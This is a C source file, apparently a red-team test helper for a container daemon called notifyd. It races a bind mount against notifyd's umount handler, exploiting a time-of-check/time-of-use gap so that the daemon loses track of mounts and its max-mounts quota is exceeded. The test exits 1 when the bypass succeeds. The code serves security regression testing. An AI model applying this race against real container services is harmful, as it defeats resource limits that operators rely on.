/* SPDX-License-Identifier: MIT */
/*
 * umount_swap: a static helper run inside a test container against notifyd
 * (tests/security/notifyd_redteam.sh).  notifyd's umount2 handler
 * (umount_request_handle()) resolves the caller's path once to decide ("is
 * the mount there one notifyd made for this container?"), then calls
 * umount2() with the same *string* -- a second lookup -- and drops the
 * record of the mount it checked.  A second thread that mounts something
 * over the target between the two lookups makes notifyd unmount that
 * (topmost) mount instead, and forget the notifyd mount, which stays.
 * max-mounts then no longer counts it.
 *
 *   umount_swap ROUNDS MAX
 * Profile: tmpfs with the kernel action, max-mounts = MAX (1 here).
 * CUR is the notifyd tmpfs that is recorded (first /mnt/sa/x).  Each round:
 * thread B waits a varying few microseconds and bind-mounts /mnt/ub (a
 * directory holding the file "U"; a bind is answered "continue") over CUR,
 * while thread A calls umount2(CUR).  Then A removes U wherever it is left,
 * mounts CUR again if it is gone, and tries one more notifyd tmpfs on
 * /mnt/sc/K: with the records right that gets ENOSPC.  When it succeeds, the
 * new mount is recorded and becomes CUR; the old one lives on unrecorded.
 * Prints "round=N extra=K live=L" for each extra mount that got through and
 * at the end "done rounds=N live=L max=MAX" (L: notifyd tmpfs mounts alive).
 * Exit 1 when L > MAX.
 *
 *   umount_swap getfree
 * ioctl(open("/dev/loop-control"), LOOP_CTL_GET_FREE) and nothing else (no
 * /sys scan as util-linux losetup does); prints "getfree=N" or the errno.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define MV_LOOP_CTL_GET_FREE 0x4C82

static pthread_barrier_t bar;
static atomic_int spin;
static char cur[64];

static int is_mount_root(const char *p)
{
	struct statx st;

	if (statx(AT_FDCWD, p, AT_SYMLINK_NOFOLLOW, STATX_BASIC_STATS, &st) < 0)
		return 0;
	return (st.stx_attributes_mask & STATX_ATTR_MOUNT_ROOT) &&
	       (st.stx_attributes & STATX_ATTR_MOUNT_ROOT);
}

static int covered_by_u(const char *p)
{
	char f[80];

	snprintf(f, sizeof(f), "%s/U", p);
	return access(f, F_OK) == 0;
}

static int tmount(const char *p)
{
	return mount("none", p, "tmpfs", 0, "size=64k") < 0 ? -errno : 0;
}

static void *coverer(void *arg)
{
	(void)arg;
	for (;;) {
		pthread_barrier_wait(&bar);
		for (volatile int i = 0, n = atomic_load(&spin); i < n; i++)
			;
		mount("/mnt/ub", cur, NULL, MS_BIND, NULL);
		pthread_barrier_wait(&bar);
	}
	return NULL;
}

static int getfree(void)
{
	int fd = open("/dev/loop-control", O_RDWR | O_CLOEXEC), r;

	if (fd < 0) {
		printf("open /dev/loop-control: %s\n", strerror(errno));
		return 1;
	}
	r = ioctl(fd, MV_LOOP_CTL_GET_FREE);
	if (r < 0)
		printf("getfree: %s\n", strerror(errno));
	else
		printf("getfree=%d\n", r);
	return r < 0;
}

int main(int argc, char **argv)
{
	if (argc > 1 && !strcmp(argv[1], "getfree"))
		return getfree();
	int rounds = argc > 1 ? atoi(argv[1]) : 2000, max = argc > 2 ? atoi(argv[2]) : 1;
	int extra = 0, live, i, r, k;
	char p[64];
	pthread_t th;

	mkdir("/mnt/sa", 0755);
	mkdir("/mnt/sa/x", 0755);
	mkdir("/mnt/sc", 0755);
	mkdir("/mnt/ub", 0755);
	close(open("/mnt/ub/U", O_CREAT | O_WRONLY, 0644));
	snprintf(cur, sizeof(cur), "/mnt/sa/x");
	if ((r = tmount(cur)) < 0) {
		printf("setup mount failed: %s\n", strerror(-r));
		return 2;
	}
	pthread_barrier_init(&bar, NULL, 2);
	if (pthread_create(&th, NULL, coverer, NULL)) {
		perror("pthread_create");
		return 2;
	}
	for (i = 0; i < rounds && extra < 4; i++) {
		atomic_store(&spin, (i * 37) % 20000);
		pthread_barrier_wait(&bar);
		umount2(cur, 0);
		pthread_barrier_wait(&bar);
		/* U off wherever it is left (not notifyd's: the kernel unmounts it). */
		for (k = 0; k < 4 && is_mount_root(cur) && covered_by_u(cur); k++)
			umount2(cur, 0);
		if (!is_mount_root(cur) && (r = tmount(cur)) < 0) {
			printf("round=%d remount %s: %s\n", i, cur, strerror(-r));
			break;
		}
		snprintf(p, sizeof(p), "/mnt/sc/%d", extra);
		mkdir(p, 0755);
		if (tmount(p) == 0) {
			extra++;
			live = is_mount_root("/mnt/sa/x");
			for (k = 0; k < extra; k++) {
				snprintf(p, sizeof(p), "/mnt/sc/%d", k);
				live += is_mount_root(p);
			}
			printf("round=%d extra=%d live=%d\n", i, extra, live);
			fflush(stdout);
			snprintf(cur, sizeof(cur), "/mnt/sc/%d", extra - 1);
		}
	}
	live = is_mount_root("/mnt/sa/x") && !covered_by_u("/mnt/sa/x");
	for (k = 0; k < extra; k++) {
		snprintf(p, sizeof(p), "/mnt/sc/%d", k);
		live += is_mount_root(p) && !covered_by_u(p);
	}
	printf("done rounds=%d live=%d max=%d\n", i, live, max);
	fflush(stdout);
	_exit(live > max ? 1 : 0);
}
